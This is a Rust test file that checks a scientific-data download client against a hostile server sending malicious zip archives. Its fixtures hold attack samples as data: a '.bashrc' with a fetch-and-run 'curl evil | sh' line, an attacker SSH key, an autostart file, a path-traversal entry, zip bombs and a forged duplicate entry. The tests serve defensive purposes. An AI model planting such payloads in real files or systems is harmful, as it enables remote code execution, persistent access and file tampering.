//! Prepared-zip downloads against a hostile IDS (issue 14, download half): entries nobody asked
//! for, zip bombs, one bad entry among good ones, and temporary zips left by earlier runs.

mod hostile;

use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use hostile::*;
use icat_ids::download::crc_hex;
use icat_ids::{
    CancellationToken, DatafileSpec, DownloadPlan, Expected, FileStatus, IdsError, Outcome,
    SafeRelPath, Strategy, UnverifiedReason,
};

fn expected_of(bytes: &[u8]) -> Expected {
    Expected {
        size: Some(bytes.len() as u64),
        checksum: Some(crc_hex(crc32fast::hash(bytes))),
    }
}

/// Serves `zip` for every prepared-data request.
async fn zip_ids(zip: Vec<u8>) -> HostileIds {
    HostileIds::start(move |req| match req.call.as_str() {
        "prepareData" => Reply::ok(PREPARED_ID),
        "isPrepared" => Reply::ok("true"),
        "getData" => Reply::ok(zip.clone()),
        _ => Reply::not_found(),
    })
    .await
}

fn zip_plan(dest: &std::path::Path, files: &[(i64, &str, Expected)]) -> DownloadPlan {
    let mut plan = DownloadPlan::new(dest);
    for (id, name, expected) in files {
        let path = SafeRelPath::parse(&format!("v/d/{name}")).unwrap();
        plan.push(DatafileSpec::new(*id, path, expected.clone()));
    }
    plan
}

fn zip_options(max: &Arc<AtomicU64>) -> icat_ids::DownloadOptions {
    let mut opts = options(max);
    opts.strategy = Strategy::PreparedZip { compress: false };
    opts
}

fn names(root: &std::path::Path) -> Vec<PathBuf> {
    files_with_sizes(root).into_iter().map(|f| f.0).collect()
}

/// Finding 3: a zip holding entries nobody asked for (`.bashrc`, `.ssh/authorized_keys`, an
/// autostart file, an unselected datafile, an unsafe name) writes only the selected datafile;
/// the rest is reported, not written.
#[tokio::test]
async fn entries_nobody_asked_for_are_reported_not_written() {
    let good = b"the selected datafile".to_vec();
    let zip = make_zip(
        &[
            ("ids/F/I/v/d/f.dat", &good),
            (".bashrc", b"curl evil | sh"),
            (".ssh/authorized_keys", b"ssh-rsa AAAA attacker"),
            (".config/autostart/evil.desktop", b"[Desktop Entry]"),
            ("ids/F/I/v/d/unasked.dat", b"not selected"),
            ("ids/F/I/v/../../../escape", b"out"),
        ],
        false,
    );
    let ids = zip_ids(zip).await;
    let dir = tempfile::tempdir().unwrap();
    let plan = zip_plan(dir.path(), &[(1, "f.dat", expected_of(&good))]);
    let max = Arc::new(AtomicU64::new(0));
    let s = client(&ids)
        .download_plan(&plan, &zip_options(&max))
        .await
        .unwrap();
    assert_eq!(s.files[0].status(), FileStatus::Verified, "{s:?}");
    assert_eq!(names(dir.path()), vec![PathBuf::from("v/d/f.dat")]);
    let ignored: Vec<&str> = s.ignored.iter().map(|e| e.name.as_str()).collect();
    assert_eq!(ignored.len(), 5, "{ignored:?}");
    assert!(ignored.contains(&".ssh/authorized_keys"), "{ignored:?}");
}

/// Finding 3: a zip bomb (64 MiB of zeros deflated to a few KiB) for a datafile the catalogue
/// says is 1000 bytes: extraction stops at 1000 bytes, nothing reaches the final path.
#[tokio::test]
async fn zip_bomb_is_cut_at_the_catalogue_size() {
    let bomb = vec![0u8; 64 << 20];
    let zip = make_zip(&[("ids/F/I/v/d/f.dat", &bomb)], true);
    assert!(zip.len() < 1 << 20);
    drop(bomb);
    let ids = zip_ids(zip).await;
    let dir = tempfile::tempdir().unwrap();
    let expected = Expected {
        size: Some(1000),
        checksum: None,
    };
    let plan = zip_plan(dir.path(), &[(1, "f.dat", expected)]);
    let max = Arc::new(AtomicU64::new(0));
    let s = client(&ids)
        .download_plan(&plan, &zip_options(&max))
        .await
        .unwrap();
    match &s.files[0].outcome {
        Outcome::Failed(e) => assert!(
            matches!(e.as_ref(), IdsError::BodyTooLong { expected: 1000, .. }),
            "{e}"
        ),
        other => panic!("{other:?}"),
    }
    for (p, len) in files_with_sizes(dir.path()) {
        assert!(len <= 1000, "{}: {len} bytes written", p.display());
    }
    assert!(!dir.path().join("v/d/f.dat").exists());
}

/// Finding 9: one entry fails its catalogue checksum: that file fails as a checksum mismatch
/// (not an "IDS internal error"), the good file beside it is extracted and verified.
#[tokio::test]
async fn one_bad_entry_fails_alone_with_its_own_error() {
    let good = b"good bytes".to_vec();
    let bad = b"tampered bytes".to_vec();
    let zip = make_zip(
        &[
            ("ids/F/I/v/d/bad.dat", &bad),
            ("ids/F/I/v/d/good.dat", &good),
        ],
        false,
    );
    let ids = zip_ids(zip).await;
    let dir = tempfile::tempdir().unwrap();
    let plan = zip_plan(
        dir.path(),
        &[
            (1, "bad.dat", expected_of(b"original bytes")),
            (2, "good.dat", expected_of(&good)),
        ],
    );
    let max = Arc::new(AtomicU64::new(0));
    let s = client(&ids)
        .download_plan(&plan, &zip_options(&max))
        .await
        .unwrap();
    match &s.files[0].outcome {
        Outcome::Failed(e) => {
            assert!(
                matches!(e.as_ref(), IdsError::ChecksumMismatch { .. }),
                "{e}"
            )
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(s.files[1].status(), FileStatus::Verified, "{s:?}");
    assert_eq!(
        std::fs::read(dir.path().join("v/d/good.dat")).unwrap(),
        good
    );
    assert!(!dir.path().join("v/d/bad.dat").exists());
}

/// Finding 11 (zip): without catalogue values only the zip's own CRC32 vouches for an entry:
/// the file is reported unverified.
#[tokio::test]
async fn zip_entry_without_catalogue_values_is_unverified() {
    let zip = make_zip(&[("ids/F/I/v/d/f.dat", b"some bytes")], false);
    let ids = zip_ids(zip).await;
    let dir = tempfile::tempdir().unwrap();
    let plan = zip_plan(dir.path(), &[(1, "f.dat", Expected::default())]);
    let max = Arc::new(AtomicU64::new(0));
    let s = client(&ids)
        .download_plan(&plan, &zip_options(&max))
        .await
        .unwrap();
    assert_eq!(
        s.files[0].status(),
        FileStatus::Unverified(UnverifiedReason::ZipChecksumOnly)
    );
}

/// Finding 10: temporary zips that killed runs left (this version's and older versions'
/// names) are removed, and after a successful run nothing of ours is left in the destination.
#[tokio::test]
async fn orphaned_zips_are_removed_and_a_good_run_leaves_nothing_behind() {
    let data = b"data".to_vec();
    let ids = zip_ids(make_zip(&[("ids/F/I/v/d/f.dat", &data)], false)).await;
    let dir = tempfile::tempdir().unwrap();
    for i in 0..3 {
        let old = format!(".ids-download-0a1b2c3d-4e5f-4061-8273-94a5b6c7d8e{i}.zip.part");
        std::fs::write(dir.path().join(old), vec![0u8; 1000]).unwrap();
    }
    let work = dir.path().join(".icat-download");
    std::fs::create_dir(&work).unwrap();
    std::fs::write(
        work.join("zip-0a1b2c3d-4e5f-4061-8273-94a5b6c7d8ff.part"),
        b"x",
    )
    .unwrap();
    let plan = zip_plan(dir.path(), &[(1, "f.dat", expected_of(&data))]);
    let max = Arc::new(AtomicU64::new(0));
    let s = client(&ids)
        .download_plan(&plan, &zip_options(&max))
        .await
        .unwrap();
    assert!(s.is_verified(), "{s:?}");
    assert_eq!(names(dir.path()), vec![PathBuf::from("v/d/f.dat")]);
    assert!(!work.exists());
}

/// Finding 10: a zip transfer that fails (or is cancelled) removes its temporary zip instead of
/// leaving it behind with a promise of a resume.
#[tokio::test]
async fn a_failed_or_cancelled_zip_transfer_leaves_no_temporary_zip() {
    // The body is cut after 5000 of a announced 1 MB: a transfer error.
    let ids = HostileIds::start(|req| match req.call.as_str() {
        "prepareData" => Reply::ok(PREPARED_ID),
        "isPrepared" => Reply::ok("true"),
        _ => Reply::body(Body::Endless {
            content_length: Some(1 << 40),
        }),
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let plan = zip_plan(
        dir.path(),
        &[(
            1,
            "f.dat",
            Expected {
                size: Some(10),
                checksum: None,
            },
        )],
    );
    let max = Arc::new(AtomicU64::new(0));
    let s = client(&ids)
        .download_plan(&plan, &zip_options(&max))
        .await
        .unwrap();
    let e = s.failed().next().expect("failed").1;
    assert!(matches!(e, IdsError::BodyTooLong { .. }), "{e}");
    assert!(names(dir.path()).is_empty(), "{:?}", names(dir.path()));

    let cancel = CancellationToken::new();
    let mut opts = zip_options(&max);
    opts.cancel = cancel.clone();
    let seen = Arc::new(AtomicU64::new(0));
    let (c2, s2) = (cancel.clone(), seen.clone());
    opts.progress = Some(Arc::new(move |p: &icat_ids::Progress<'_>| {
        s2.fetch_max(p.done, Ordering::SeqCst);
        if p.done > 0 {
            c2.cancel();
        }
    }));
    let plan = zip_plan(dir.path(), &[(1, "f.dat", Expected::default())]);
    let s = client(&ids).download_plan(&plan, &opts).await.unwrap();
    assert!(s.cancelled);
    assert!(seen.load(Ordering::SeqCst) > 0);
    assert!(names(dir.path()).is_empty(), "{:?}", names(dir.path()));
}

/// A zip whose central directory lists `name` twice, first with `first` then with `second`
/// (same length), beside `other`. The zip writer refuses duplicate names, so the second entry
/// is written under a placeholder name of the same length and renamed in the bytes.
fn zip_listing_twice(name: &str, first: &[u8], second: &[u8], other: (&str, &[u8])) -> Vec<u8> {
    let mut placeholder = name[..name.len() - 1].to_string();
    placeholder.push(if name.ends_with('Q') { 'R' } else { 'Q' });
    assert_eq!(placeholder.len(), name.len());
    let mut zip = make_zip(&[(name, first), (&placeholder, second), other], false);
    let (from, to) = (placeholder.as_bytes(), name.as_bytes());
    let mut i = 0;
    while i + from.len() <= zip.len() {
        if &zip[i..i + from.len()] == from {
            zip[i..i + from.len()].copy_from_slice(to);
            i += from.len();
        } else {
            i += 1;
        }
    }
    zip
}

/// Review: a zip listing one datafile's entry twice. The zip reader keeps one entry per name
/// (the last), so the second copy used to be extracted as the datafile: with only a size in the
/// catalogue it was placed, and with `--overwrite` it replaced the verified file of an earlier
/// run. Now both copies are refused, whichever comes first, and a file already there stays;
/// the error says what to do (fetch it without a zip, tell the facility), not "download them
/// into separate directories", which cannot help with one datafile listed twice.
#[tokio::test]
async fn an_entry_listed_twice_never_replaces_a_verified_file() {
    let good = b"the genuine bytes of f.dat".to_vec();
    let evil = b"THE FORGED BYTES OF F.DAT!".to_vec();
    assert_eq!(good.len(), evil.len());
    let other = b"another selected datafile".to_vec();
    let size_only = |b: &[u8]| Expected {
        size: Some(b.len() as u64),
        checksum: None,
    };
    let max = Arc::new(AtomicU64::new(0));
    for (first, second) in [(&good, &evil), (&evil, &good)] {
        let zip = zip_listing_twice(
            "ids/F/I/v/d/f.dat",
            first,
            second,
            ("ids/F/I/v/d/g.dat", &other),
        );
        let ids = zip_ids(zip).await;
        let dir = tempfile::tempdir().unwrap();
        let plan = zip_plan(
            dir.path(),
            &[
                (1, "f.dat", size_only(&good)),
                (2, "g.dat", expected_of(&other)),
            ],
        );
        let s = client(&ids)
            .download_plan(&plan, &zip_options(&max))
            .await
            .unwrap();
        match &s.files[0].outcome {
            Outcome::Failed(e) => {
                assert!(
                    matches!(e.as_ref(), IdsError::ZipEntryRepeated { .. }),
                    "{e}"
                );
                let text = e.to_string();
                assert!(
                    text.contains("without a zip") && text.contains("report it to the facility"),
                    "{text}"
                );
                assert!(!text.contains("separate directories"), "{text}");
            }
            other => panic!("a twice-listed entry was extracted: {other:?}"),
        }
        assert_eq!(s.files[1].status(), FileStatus::Verified, "{s:?}");
        assert_eq!(names(dir.path()), vec![PathBuf::from("v/d/g.dat")]);
        let ignored: Vec<&str> = s.ignored.iter().map(|e| e.reason).collect();
        assert!(ignored.iter().any(|r| r.contains("twice")), "{ignored:?}");

        // An earlier run placed the genuine file; a rerun with --overwrite keeps it.
        std::fs::write(dir.path().join("v/d/f.dat"), &good).unwrap();
        let mut opts = zip_options(&max);
        opts.overwrite = true;
        let s = client(&ids).download_plan(&plan, &opts).await.unwrap();
        assert!(matches!(s.files[0].outcome, Outcome::Failed(_)), "{s:?}");
        assert_eq!(std::fs::read(dir.path().join("v/d/f.dat")).unwrap(), good);
    }
}

/// A zip entry for a datafile of unknown size (catalogue `fileSize` absent or -1) that declares
/// 4 MiB of zeros in a zip of a few KiB: extraction stops at the unknown-size bound (here an
/// explicit 64 KiB cap standing in for the destination's free space minus the margin), nothing
/// at the final path.
#[tokio::test]
async fn zip_entry_of_unknown_size_stops_at_the_room_bound() {
    const CAP: u64 = 64 * 1024;
    let bomb = vec![0u8; 4 << 20];
    let zip = make_zip(&[("ids/F/I/v/d/f.dat", &bomb)], true);
    assert!(zip.len() < CAP as usize);
    drop(bomb);
    let ids = zip_ids(zip).await;
    let dir = tempfile::tempdir().unwrap();
    let plan = zip_plan(dir.path(), &[(1, "f.dat", Expected::default())]);
    let max = Arc::new(AtomicU64::new(0));
    let mut opts = zip_options(&max);
    opts.unknown_size_limit = Some(CAP);
    let s = client(&ids).download_plan(&plan, &opts).await.unwrap();
    match &s.files[0].outcome {
        Outcome::Failed(e) => assert!(
            matches!(e.as_ref(), IdsError::BodyTooLong { expected: CAP, .. }),
            "{e}"
        ),
        other => panic!("{other:?}"),
    }
    for (p, len) in files_with_sizes(dir.path()) {
        assert!(len <= CAP, "{}: {len} bytes written", p.display());
    }
    assert!(!dir.path().join("v/d/f.dat").exists());
}
